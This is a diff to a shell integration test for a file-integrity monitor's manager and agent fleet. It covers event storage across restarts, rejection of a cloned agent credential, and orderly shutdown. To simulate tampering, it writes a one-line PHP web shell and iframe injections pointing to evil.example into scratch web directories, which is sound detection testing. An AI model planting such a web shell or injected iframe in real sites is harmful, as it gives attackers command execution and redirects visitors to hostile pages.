@@ -10,7 +10,10 @@
 #     counter moved);
 #   - the manager stopped, files tampered on agents 2 and 3 meanwhile, the manager
 #     started: every event of every agent is stored exactly once (event ids in the
-#     manager's database against each agent's events.jsonl).
+#     manager's database against each agent's events.jsonl);
+#   - a clone of agent 3 (its STATE/manager.json copied) is refused as a duplicate and
+#     enrolls again with its own token: a new agent_key, agent 3 stays online;
+#   - an orderly stop (bye) is `stopped`, not lost.
 source "$(dirname "$0")/lib.sh"
 source "$(dirname "$0")/web_lib.sh"
 source "$(dirname "$0")/smtp_lib.sh"
@@ -104,6 +107,7 @@ for i in 1 2 3; do
   d=$SCRATCH/a$i
   mkdir -p "$d/www/sub"
   for f in index.php wp-config.php sub/page.html; do echo "site $i $f" >"$d/www/$f"; done
+  for n in $(seq 1 30); do echo "page $n of site $i" >"$d/www/sub/p$n.html"; done
   ACONF[$i]=$d/mamori.toml
   AEVENTS[$i]=$d/events.jsonl
   ASOCK[$i]=$d/agent.sock
@@ -179,7 +183,7 @@ WAIT_SECONDS=35 wait_for "agent 1 online again" is_status web1 online
 step "the manager stopped, files tampered on agents 2 and 3, the manager started"
 stop_manager
 for i in 2 3; do
-  for n in 1 2 3 4 5; do echo "tampered $n" >>"$SCRATCH/a$i/www/index.php"; done
+  for n in $(seq 1 30); do echo "<iframe src=//evil.example>" >>"$SCRATCH/a$i/www/sub/p$n.html"; done
   echo '<?php system($_GET["c"]);' >"$SCRATCH/a$i/www/sub/shell.php"
 done
 for i in 2 3; do
@@ -222,6 +226,27 @@ all_acked() {
 }
 WAIT_SECONDS=30 wait_for "every agent's events acknowledged" all_acked
 stored_once || fail "the manager's store does not hold every agent event exactly once"
+
+step "a clone of agent 3's credential (a golden image) becomes an agent of its own"
+expect_exit 0 manager token create --group web --uses 1
+echo "$OUT" | grep -o 'mamori-token-v1\.[A-Za-z0-9_-]*' | head -n 1 >"$SCRATCH/token4"
+chmod 0600 "$SCRATCH/token4"
+d=$SCRATCH/a4
+mkdir -p "$d/www"
+echo "site 4" >"$d/www/index.php"
+ACONF[4]=$d/mamori.toml
+AEVENTS[4]=$d/events.jsonl
+sed -e "s|$SCRATCH/a3|$d|g" -e 's/^name = "web3"/name = "web4"/' -e "s|$SCRATCH/token|$SCRATCH/token4|" \
+  "${ACONF[3]}" >"${ACONF[4]}"
+expect_exit 0 "$MAMORI" --config "${ACONF[4]}" init
+cp -p "$SCRATCH/a3/state/manager.json" "$d/state/manager.json"
+key3=$(agents_json | python3 -c 'import json,sys; print([a["agent_key"] for a in json.load(sys.stdin)["agents"] if a["name"] == "web3"][0])')
+start_fleet_agent 4
+WAIT_SECONDS=30 WAIT_EXPLAIN='agents_json; cat $SCRATCH/a4/agent.log' wait_for "the clone enrolled as web4" is_status web4 online
+key4=$(agents_json | python3 -c 'import json,sys; print([a["agent_key"] for a in json.load(sys.stdin)["agents"] if a["name"] == "web4"][0])')
+assert_ne "$key3" "$key4" "the clone's agent_key"
+assert_contains "$(cat "$d/agent.log")" "another agent uses this identity" "the clone's log"
+assert_eq online "$(status_of web3)" "the original agent 3"
 
 step "orderly stop: stopped, not lost"
 stop_pid "${APID[3]}" "agent 3" || fail "agent 3 did not stop within 10 s of SIGTERM"
